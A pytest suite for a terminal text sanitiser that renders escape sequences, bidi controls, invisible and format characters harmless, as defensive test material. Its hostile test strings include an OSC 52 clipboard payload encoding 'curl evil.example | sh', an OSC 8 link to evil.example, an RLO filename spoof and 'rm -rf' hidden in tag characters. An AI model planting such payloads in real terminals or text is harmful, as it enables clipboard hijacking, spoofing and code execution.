"""Tests for `workspace.text`: customer text must reach the terminal inert and visible.

The shared hostile-text corpus (one string per attack class) is loaded at run time, so new
classes are covered as they are added. A handful of its cases are also copied inline, so that
these tests still test something when the corpus is missing; then only the file-driven tests
are skipped, with the reason.

A small reference sanitiser, written for clarity rather than speed, is compared with the real
one on random strings: `sanitize` has fast paths for ASCII, BMP-only and astral text, and they
must all agree with the rules.
"""

from __future__ import annotations

import random
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from tests.hostile import MISSING_REASON, load_hostile_cases
from workspace.text import ELLIPSIS, NEWLINE_MARK, count, one_line, preview, sanitize, words

# --- The rules, restated independently of the implementation --------------------------------

BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
INVISIBLE = {*range(0x200B, 0x200E), *range(0x2060, 0x2065), 0xFEFF, 0x00AD}
SEPARATORS = {0x2028, 0x2029}


def is_noncharacter(cp: int) -> bool:
    """U+FDD0..U+FDEF and the last two code points of every plane."""
    return 0xFDD0 <= cp <= 0xFDEF or (cp & 0xFFFE) == 0xFFFE


def is_mark(ch: str) -> bool:
    """A character that stacks on the one before it."""
    return unicodedata.combining(ch) != 0 or unicodedata.category(ch) in ("Mn", "Me")


def is_format(ch: str) -> bool:
    """An invisible format character (tags, joiners, bidi controls, annotation marks...)."""
    return unicodedata.category(ch) == "Cf"


def shown(cp: int) -> str:
    """How the sanitiser names a hidden character."""
    return f"<U+{cp:04X}>"


def reference_sanitize(text: str) -> str:
    """The rules one character at a time: slow, obvious, and the yardstick for `sanitize`."""
    out: list[str] = []
    run = dropped = 0
    for ch in text.replace("\r\n", "\n"):
        cp = ord(ch)
        if is_mark(ch):
            run += 1
            if run <= 2:
                out.append(ch)
            else:
                dropped += 1
            continue
        if dropped:
            out.append(f"<+{dropped} marks>")
        run = dropped = 0
        if ch in "\n\t":
            out.append(ch)
        elif cp < 0x20:
            out.append("^" + chr(cp + 0x40))
        elif cp == 0x7F:
            out.append("^?")
        elif (
            0x80 <= cp <= 0x9F
            or cp in BIDI
            or cp in INVISIBLE
            or cp in SEPARATORS
            or is_format(ch)
            or 0xD800 <= cp <= 0xDFFF
            or is_noncharacter(cp)
        ):
            out.append(shown(cp))
        else:
            out.append(ch)
    if dropped:
        out.append(f"<+{dropped} marks>")
    return "".join(out)


def assert_safe(out: str) -> None:
    """Nothing in `out` can drive a terminal, hide, reorder or stack text; a second pass is a
    no-op."""
    run = 0
    for index, ch in enumerate(out):
        cp = ord(ch)
        where = f"U+{cp:04X} at {index} in {out[:80]!r}"
        assert not (cp < 0x20 and ch not in "\n\t"), f"C0 control {where}"
        assert cp != 0x7F, f"DEL {where}"
        assert not 0x80 <= cp <= 0x9F, f"C1 control {where}"
        assert cp not in BIDI, f"bidi control {where}"
        assert cp not in INVISIBLE, f"invisible character {where}"
        assert cp not in SEPARATORS, f"line separator {where}"
        assert not is_format(ch), f"format character {where}"
        assert not 0xD800 <= cp <= 0xDFFF, f"surrogate {where}"
        assert not is_noncharacter(cp), f"non-character {where}"
        run = run + 1 if is_mark(ch) else 0
        assert run <= 2, f"more than two combining marks {where}"
    out.encode("utf-8")  # strict: a terminal writer must not choke on it
    assert sanitize(out) == out, "sanitize is not idempotent"


def caret(text: str, chars: Iterable[str] = "\x1b\x07") -> str:
    """`text` with the given C0 controls in caret notation."""
    for ch in chars:
        text = text.replace(ch, "^" + chr(ord(ch) + 0x40))
    return text


def named(text: str, code_points: Iterable[int]) -> str:
    """`text` with the given characters shown as `<U+XXXX>`."""
    for cp in code_points:
        text = text.replace(chr(cp), shown(cp))
    return text


# --- The hostile-text corpus -------------------------------------------------------------------


HOSTILE_CASES = load_hostile_cases()

#: "fullwidth" in fullwidth letters (escaped: they look like ASCII in an editor).
FULLWIDTH = "\uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48"

#: A few corpus cases copied here, so these tests never silently test nothing.
INLINE_CASES: list[tuple[str, str]] = [
    ("markup-bold", "[bold red]Mallory[/bold red]"),
    ("csi-clear", "\x1b[2J\x1b[Hscreen wiped"),
    ("osc8-link", "\x1b]8;;https://evil.example\x07click here\x1b]8;;\x07"),
    ("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("c1-csi", "\x9b2J 8-bit CSI"),
    ("bel-bs-cr", "ring\x07 back\x08\x08\x08space\rcarriage"),
    ("nul-del", "a\x00b\x7fc"),
    ("bidi-rlo", "invoice \u202egnp.exe"),
    ("zero-width", "pay\u200bpal\u200c\u200d\ufeff"),
    ("line-separators", "one\u2028two\u2029three\x85four"),
    ("combining-flood", "Z" + "\u0336\u0337\u0338" * 300),
    (
        "wide-emoji",
        "😀👍🏽👨\u200d👩\u200d👧\u200d👦 " + FULLWIDTH + " 漢字",
    ),
    ("tabs-newlines", "Line one\nLine two\n\tindented\r\n"),
    ("long-line", "a" * 100_000),
    ("surrogate-like", "\ufffd\ufffe\uffff"),
]


def unchanged(raw: str, out: str) -> None:
    assert out == raw


def escapes(raw: str, out: str) -> None:
    assert "\x1b" in raw
    assert out == caret(raw)


def expect_csi_clear(raw: str, out: str) -> None:
    assert out.startswith("^[[2J^[[H")
    assert out == caret(raw)


def expect_osc8(raw: str, out: str) -> None:
    assert out.startswith("^[]8;;https://evil.example^G")
    assert out == caret(raw)


def expect_osc52(raw: str, out: str) -> None:
    assert "^[]52;c;" in out
    assert out == caret(raw)


def expect_c1_csi(raw: str, out: str) -> None:
    assert out.startswith("<U+009B>2J")
    assert out == named(raw, [0x9B])


def expect_c1_osc(raw: str, out: str) -> None:
    assert out == named(raw, [0x9D, 0x9C])
    assert out.startswith("<U+009D>")


def expect_bel_bs_cr(raw: str, out: str) -> None:
    assert "^G" in out and "^H" in out and "^M" in out
    assert out == caret(raw, "\x07\x08\r")


def expect_nul_del(raw: str, out: str) -> None:
    assert out == caret(raw, "\x00").replace("\x7f", "^?")
    assert "^@" in out and "^?" in out


def expect_bidi_rlo(raw: str, out: str) -> None:
    assert out == "invoice <U+202E>gnp.exe"


def expect_bidi(raw: str, out: str) -> None:
    assert out == named(raw, BIDI)
    assert out != raw


def expect_zero_width(raw: str, out: str) -> None:
    assert out == named(raw, INVISIBLE)
    assert "<U+200B>" in out


def expect_line_separators(raw: str, out: str) -> None:
    assert out == named(raw, [0x2028, 0x2029, 0x85])
    assert "\n" not in out


def expect_combining_flood(raw: str, out: str) -> None:
    assert all(is_mark(ch) for ch in raw[1:])
    assert out == f"{raw[:3]}<+{len(raw) - 3} marks>"


def expect_wide_emoji(raw: str, out: str) -> None:
    assert "\u200d" in raw
    assert out == raw.replace("\u200d", "<U+200D>")


def expect_tabs_newlines(raw: str, out: str) -> None:
    assert out == raw.replace("\r\n", "\n")
    assert out.splitlines() == raw.splitlines()
    assert "\t" in out and "^M" not in out


def expect_long_line(raw: str, out: str) -> None:
    assert out == raw
    cut = preview(raw)
    assert cut.endswith(ELLIPSIS)
    assert len(cut) == 200


def expect_many_lines(raw: str, out: str) -> None:
    assert out == raw
    assert "\n" not in one_line(raw)
    assert one_line(raw).count(NEWLINE_MARK) == raw.count("\n")


def expect_surrogate_like(raw: str, out: str) -> None:
    assert out == named(raw, [0xFFFE, 0xFFFF])
    assert out.startswith("\ufffd")  # U+FFFD is an ordinary character


EXPECTATIONS: dict[str, Callable[[str, str], None]] = {
    "markup-bold": unchanged,
    "markup-link-quoted": unchanged,
    "markup-link-unquoted": unchanged,
    "markup-action": unchanged,
    "markup-stray-open": unchanged,
    "markup-stray-close": unchanged,
    "markup-escaped": unchanged,
    "markup-variable": unchanged,
    "csi-clear": expect_csi_clear,
    "csi-colour": escapes,
    "csi-cursor": escapes,
    "csi-alt-screen": escapes,
    "csi-mouse-off": escapes,
    "osc0-title-bel": escapes,
    "osc2-title-st": escapes,
    "osc8-link": expect_osc8,
    "osc52-clipboard": expect_osc52,
    "osc50-font": escapes,
    "osc-unterminated": escapes,
    "dcs": escapes,
    "apc": escapes,
    "pm-sos": escapes,
    "c1-csi": expect_c1_csi,
    "c1-osc": expect_c1_osc,
    "bel-bs-cr": expect_bel_bs_cr,
    "nul-del": expect_nul_del,
    "bidi-rlo": expect_bidi_rlo,
    "bidi-isolates": expect_bidi,
    "bidi-marks": expect_bidi,
    "zero-width": expect_zero_width,
    "line-separators": expect_line_separators,
    "combining-flood": expect_combining_flood,
    "wide-emoji": expect_wide_emoji,
    "tabs-newlines": expect_tabs_newlines,
    "long-line": expect_long_line,
    "many-lines": expect_many_lines,
    "shell": unchanged,
    "format-braces": unchanged,
    "surrogate-like": expect_surrogate_like,
}


def check_case(hostile_class: str, raw: str) -> None:
    """The invariants for every case, plus what is expected of its class (if known)."""
    out = sanitize(raw)
    assert_safe(out)
    assert out == reference_sanitize(raw)
    line = one_line(raw)
    assert "\n" not in line and "\t" not in line
    assert_safe(line)
    for limit in (1, 10, 80, 200):
        cut = preview(raw, limit)
        assert len(cut) <= limit
        assert "\n" not in cut
        if len(line) <= limit:
            assert cut == line
        else:
            assert cut.endswith(ELLIPSIS)
            assert line.startswith(cut[: -len(ELLIPSIS)])
    expectation = EXPECTATIONS.get(hostile_class)
    if expectation is not None:
        expectation(raw, out)


def case_id(case: tuple[str, str]) -> str:
    return case[0]


@pytest.mark.parametrize("case", INLINE_CASES, ids=case_id)
def test_inline_hostile_case(case: tuple[str, str]) -> None:
    check_case(*case)


@pytest.mark.parametrize(
    "case",
    HOSTILE_CASES
    if HOSTILE_CASES is not None
    else [pytest.param(("missing", ""), marks=pytest.mark.skip(reason=MISSING_REASON))],
    ids=case_id,
)
def test_hostile_text_corpus(case: tuple[str, str]) -> None:
    check_case(*case)


def test_hostile_text_corpus_has_the_classes_checked_here() -> None:
    """A renamed or dropped class would otherwise lose its specific expectations silently."""
    if HOSTILE_CASES is None:
        pytest.skip(MISSING_REASON)
    assert HOSTILE_CASES, "the hostile-text corpus has no cases"
    missing = set(EXPECTATIONS) - {name for name, _ in HOSTILE_CASES}
    assert not missing, f"classes expected but not in the corpus: {sorted(missing)}"


def test_inline_cases_match_the_corpus() -> None:
    """The inline copies are the corpus's own strings (the flood and long line are shortened
    or generated, so only their shape is compared)."""
    if HOSTILE_CASES is None:
        pytest.skip(MISSING_REASON)
    corpus = dict(HOSTILE_CASES)
    for name, text in INLINE_CASES:
        if name in ("combining-flood", "long-line"):
            assert corpus[name][0] == text[0]
        elif name in corpus:
            assert corpus[name] == text, name


# --- Ordinary text passes unchanged ------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Hello, world! Order #1234 (refund: $12.50) <ok> [sic] ^_^ 100% {x}",
        "Grüße aus Köln: café, naïve, señor, Ærøskøbing, Łódź",
        "Tiếng Việt",
        "Tie\u0302\u0301ng Vie\u0323\u0302t",  # decomposed: two marks on a letter is fine
        "漢字かなカナ 한국어 " + FULLWIDTH,
        "Ελληνικά, русский, עברית, العربية, हिन्दी",
        "👍🏽 ❤️ 1️⃣ 🇫🇷 😀",
        "\U0001d41b\U0001d428\U0001d425\U0001d41d \U0001d456\U0001d461 𠀀𠀁",  # maths bold, italic
        "tab\tseparated\nand two lines",
        "^[ typed by the customer, not an escape",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert sanitize(text) == text


# --- Specific rules ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("\x1b", "^["),
        ("\x07", "^G"),
        ("\x00", "^@"),
        ("\r", "^M"),
        ("\x08", "^H"),
        ("\x1f", "^_"),
        ("\x7f", "^?"),
        ("a\r\nb", "a\nb"),
        ("a\r\r\nb", "a^M\nb"),
        ("a\n\rb", "a\n^Mb"),
        ("\x80\x85\x9b\x9f", "<U+0080><U+0085><U+009B><U+009F>"),
        ("\u061c\u200e\u200f\u202a\u202e\u2066\u2069", None),
        ("\u200b\u200c\u200d\u2060\u2064\ufeff\u00ad", None),
        ("\u2028\u2029", "<U+2028><U+2029>"),
        ("x\ud800y\udfff", "x<U+D800>y<U+DFFF>"),
        ("\ufdd0\ufdef\ufffe\uffff", "<U+FDD0><U+FDEF><U+FFFE><U+FFFF>"),
        ("\U0001fffe\U0010ffff", "<U+1FFFE><U+10FFFF>"),
        ("é\x1b[31m漢", "é^[[31m漢"),
        ("😀\x1b]52;c;x\x07", "😀^[]52;c;x^G"),
        ("𠀀\x1b\u202e", "𠀀^[<U+202E>"),
    ],
)
def test_hidden_characters_are_named(raw: str, expected: str | None) -> None:
    want = expected if expected is not None else "".join(shown(ord(ch)) for ch in raw)
    assert sanitize(raw) == want


def tags(text: str) -> str:
    """`text` (ASCII) spelled in invisible Unicode tag characters (U+E0020-U+E007E)."""
    return "".join(chr(0xE0000 + ord(ch)) for ch in text)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("\U000e0041\U000e0042", "<U+E0041><U+E0042>"),
        ("\U000e0001\U000e0020\U000e007e\U000e007f", "<U+E0001><U+E0020><U+E007E><U+E007F>"),
        # Text hidden in tags after a harmless message: every tag shows.
        (
            "Thanks!" + tags("rm -rf"),
            "Thanks!" + "".join(shown(0xE0000 + ord(c)) for c in "rm -rf"),
        ),
        # A subdivision flag (Scotland) splits into the black flag and its tags, like ZWJ emoji.
        (
            "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
            "\U0001f3f4<U+E0067><U+E0062><U+E0073><U+E0063><U+E0074><U+E007F>",
        ),
        ("a\u180eb", "a<U+180E>b"),  # Mongolian vowel separator
        ("\u206a\u206b\u206c\u206d\u206e\u206f", None),  # deprecated shaping controls
        ("\ufff9note\ufffaruby\ufffb", "<U+FFF9>note<U+FFFA>ruby<U+FFFB>"),  # annotations
        ("\U0001d173\U0001d17a", "<U+1D173><U+1D17A>"),  # musical beam and phrase controls
        ("\u0600\u06dd\u070f\u0890\u08e2", None),  # prepended concatenation marks
        ("\U000110bd\U000110cd\U00013430\U0001bca0", None),  # astral format controls
        ("é\u180e漢\U000e0041", "é<U+180E>漢<U+E0041>"),  # BMP, CJK and a tag
        ("😀\U000e0041", "😀<U+E0041>"),  # emoji do not hide a tag
        ("\U0001d41b\u206a\U0001d41b", "\U0001d41b<U+206A>\U0001d41b"),  # astral, BMP format
        ("e\u0301\U000e0041\u0302\u0303", "e\u0301<U+E0041>\u0302\u0303"),  # ends a mark run
    ],
)
def test_format_characters_are_named(raw: str, expected: str | None) -> None:
    want = expected if expected is not None else "".join(shown(ord(ch)) for ch in raw)
    assert sanitize(raw) == want
    assert sanitize(want) == want
    assert "\n" not in one_line(raw)


def every_format_character() -> list[int]:
    """Every `Cf` code point of the running Python's Unicode, in every plane."""
    return [cp for cp in range(0x110000) if is_format(chr(cp))]


def test_every_format_character_is_named_on_every_path() -> None:
    formats = every_format_character()
    assert {0x180E, 0xFFF9, 0x1D173, 0xE0001, 0xE0041, 0xE007F} <= set(formats)
    for cp in formats:
        ch, name = chr(cp), shown(cp)
        assert sanitize(ch) == name
        assert sanitize(f"a{ch}b") == f"a{name}b"
        assert sanitize(f"é{ch}漢") == f"é{name}漢"  # BMP-only text
        assert sanitize(f"😀{ch}") == f"😀{name}"  # emoji only
        assert sanitize(f"\U0001d41b{ch}\U00020000") == f"\U0001d41b{name}\U00020000"  # astral
        assert sanitize(f"{ch}\U0010ffff") == f"{name}<U+10FFFF>"  # with a non-character
        assert preview(f"x{ch}" * 20, 12) == f"x{name}x{ELLIPSIS}"
    # Many runs: the bulk `str.translate` paths, BMP-only and astral.
    everything = "é".join(chr(cp) for cp in formats)
    assert sanitize(everything) == "é".join(shown(cp) for cp in formats)
    bmp = "é".join(chr(cp) for cp in formats if cp < 0x10000)
    assert sanitize(bmp) == "é".join(shown(cp) for cp in formats if cp < 0x10000)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("e\u0301\u0302", "e\u0301\u0302"),
        ("e\u0301\u0302\u0303", "e\u0301\u0302<+1 marks>"),
        (
            "Z" + "\u0336" * 50 + "Y" + "\u0337" * 3,
            "Z\u0336\u0336<+48 marks>Y\u0337\u0337<+1 marks>",
        ),
        ("\u0301" * 4, "\u0301\u0301<+2 marks>"),  # no base character at all
        ("a" + "\U0001d167" * 5, "a\U0001d167\U0001d167<+3 marks>"),  # astral marks
        ("a\u0301\U0001d167\u0301\U0001d167", "a\u0301\U0001d167<+2 marks>"),  # mixed run
        ("é" + "\u0301" * 3 + "😀", "é\u0301\u0301<+1 marks>😀"),
        ("a\u0301\u0302\u200b\u0303\u0304", "a\u0301\u0302<U+200B>\u0303\u0304"),
    ],
)
def test_combining_runs_are_cut_to_two(raw: str, expected: str) -> None:
    assert sanitize(raw) == expected


def test_one_line_shows_breaks_and_flattens_tabs() -> None:
    assert one_line("yes\nno\tmaybe\r\n") == f"yes{NEWLINE_MARK}no maybe{NEWLINE_MARK}"
    assert one_line("\x1b[2J\n") == f"^[[2J{NEWLINE_MARK}"


def test_preview_of_short_text_is_one_line() -> None:
    assert preview("hello\nworld") == f"hello{NEWLINE_MARK}world"
    assert preview("x" * 200) == "x" * 200
    assert preview("x" * 201) == "x" * 199 + ELLIPSIS
    assert preview("abc", 0) == ""
    assert preview("abc", 1) == ELLIPSIS


def prefix_views(text: str) -> set[str]:
    """`one_line` of every prefix of `text`: the only bodies a preview may have."""
    return {one_line(text[:end]) for end in range(len(text) + 1)}


@pytest.mark.parametrize(
    "raw",
    [
        "\x1b" * 100,
        "\u202e" * 100,
        "a\n" * 100,
        "\x9b" * 100,
        "^\x1b" * 100,  # a caret the customer typed, then an escape: `^^[`
        "<\u202e" * 100,
        "\U000e0041" * 100,
        "a\U000e0041\u180e" * 100,
        "^" * 100,
        "Z" + "\u0336" * 100 + "x" * 100,
    ],
)
def test_preview_never_splits_a_stand_in(raw: str) -> None:
    views = prefix_views(raw)
    for limit in range(1, 40):
        cut = preview(raw, limit)
        assert len(cut) <= limit
        assert cut.endswith(ELLIPSIS)
        assert cut[: -len(ELLIPSIS)] in views, (limit, cut)


def test_preview_keeps_the_longest_whole_prefix() -> None:
    assert preview("\x1b" * 100, 10) == "^[^[^[^[" + ELLIPSIS
    assert preview("ab" + "\u202e" * 10, 12) == "ab<U+202E>" + ELLIPSIS
    assert preview("^\x1b" * 10, 6) == "^^[^" + ELLIPSIS
    assert preview("a\nb\nc", 5) == f"a{NEWLINE_MARK}{ELLIPSIS}"
    assert preview("a\nb\nc", 4) == "a" + ELLIPSIS
    assert preview("e" + "\u0301" * 9 + "x", 8) == "e\u0301\u0301" + ELLIPSIS


def test_preview_does_not_split_crlf() -> None:
    raw = "xxxx\r\nyyyyyyyyyy"
    for limit in range(1, len(raw) + 4):
        assert "^M" not in preview(raw, limit)


def test_preview_counts_every_dropped_mark() -> None:
    raw = "Z" + "\u0336" * 1000
    assert preview(raw, 50) == "Z\u0336\u0336<+998 marks>"
    assert preview(raw + "tail", 50) == "Z\u0336\u0336<+998 marks>tail"


# --- Equivalence with the reference, on every code path -----------------------------------------

POOL = [
    *"abcxyz [/]^<>+0",
    "\n",
    "\t",
    "\r",
    "\r\n",
    "\x00",
    "\x07",
    "\x1b",
    "\x7f",
    "\x85",
    "\x9b",
    "\x9c",
    "é",
    "ß",
    "\u0301",
    "\u0336",
    "\u0f90",
    "\u034f",
    "\u20e3",
    "\ufe0f",
    "\u061c",
    "\u200b",
    "\u200d",
    "\u200e",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u00ad",
    "\u180e",
    "\u206a",
    "\u0600",
    "\ufff9",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ud800",
    "\udfff",
    "\ufdd0",
    "\ufffe",
    "\ufffd",
    "漢",
    "か",
    "😀",
    "🏽",
    "\U0001d400",
    "\U0001d167",
    "\U00011001",
    "\U0001e944",
    "\U000e0100",
    "\U000e0067",
    "\U000e0001",
    "\U000e007f",
    "\U0001d173",
    "\U000110bd",
    "\U00020000",
    "\U0001fffe",
    "\U0010ffff",
]


NONCHARS = {"\ufdd0", "\ufffe", "\U0001fffe", "\U0010ffff"}


def random_texts(seed: int, count: int, length: int, pool: list[str]) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choices(pool, k=rng.randint(0, length))) for _ in range(count)]


@pytest.mark.parametrize(
    "pool",
    [
        pytest.param(POOL, id="everything"),
        pytest.param([ch for ch in POOL if ch.isascii()], id="ascii"),
        pytest.param([ch for ch in POOL if all(ord(c) < 0x10000 for c in ch)], id="bmp"),
        pytest.param(
            [ch for ch in POOL if ch not in "\ufffe\U0001fffe\U0010ffff"], id="no-nonchar"
        ),
    ],
)
def test_sanitize_matches_reference(pool: list[str]) -> None:
    short = random_texts(1, 400, 40, pool)
    long = random_texts(2, 20, 2000, pool)  # many unsafe runs: the bulk paths
    for text in short + long:
        out = sanitize(text)
        assert out == reference_sanitize(text), repr(text)
        assert_safe(out)


def test_preview_is_one_line_of_a_prefix() -> None:
    for text in random_texts(3, 300, 80, POOL):
        line = one_line(text)
        views = prefix_views(text)
        for limit in (1, 2, 5, 17, 60):
            cut = preview(text, limit)
            assert len(cut) <= limit
            if len(line) <= limit:
                assert cut == line
            else:
                assert cut.endswith(ELLIPSIS)
                body = cut[: -len(ELLIPSIS)]
                assert line.startswith(body), (text, limit)
                assert body in views, (text, limit)
                # Only a stand-in that did not fit (at most 10 characters, `<U+10FFFF>`) is
                # left out, unless a run of marks was cut to its first two.
                assert len(body) > limit - 1 - 10 or "marks>" in line, (text, limit)


# --- ASCII stays cheap ----------------------------------------------------------------------


def test_ascii_text_needs_no_unicode_tables() -> None:
    """ASCII is the common case: it must not pay for finding the marks and format characters
    (a scan of the Unicode database), which only other text needs."""
    code = (
        "import workspace.text as t; "
        "assert t.sanitize('plain \\x1b[2J text\\n') == 'plain ^[[2J text\\n'; "
        "assert t.preview('a\\tb' * 100, 20).startswith('a b'); "
        "assert t._scan.cache_info().currsize == 0, 'the tables were built for ASCII'; "
        "assert t.sanitize('\\U000e0041') == '<U+E0041>'; "
        "assert t._scan.cache_info().currsize == 1"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).parents[2])


# --- Layering -------------------------------------------------------------------------------


def test_text_module_imports_neither_textual_nor_rich() -> None:
    """The sanitiser is domain code: usable (and testable) without a terminal toolkit."""
    code = (
        "import sys, workspace.text; "
        "bad = sorted(m for m in sys.modules if m.split('.')[0] in ('textual', 'rich')); "
        "assert not bad, bad"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).parents[2])


@pytest.mark.parametrize(
    ("n", "noun", "plural", "said"),
    [
        (0, "grant", None, "0 grants"),
        (1, "grant", None, "1 grant"),
        (2, "approval", None, "2 approvals"),
        (1, "entry", "entries", "1 entry"),
        (12_000, "entry", "entries", "12,000 entries"),
    ],
)
def test_counts_read_as_english(n: int, noun: str, plural: str | None, said: str) -> None:
    assert count(n, noun, plural) == said


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("two_day_shipping", "two-day shipping"),
        ("store_credit", "store credit"),
        ("cancel_order", "cancel order"),
        ("refund", "refund"),
    ],
)
def test_internal_names_read_as_words(name: str, said: str) -> None:
    assert words(name) == said
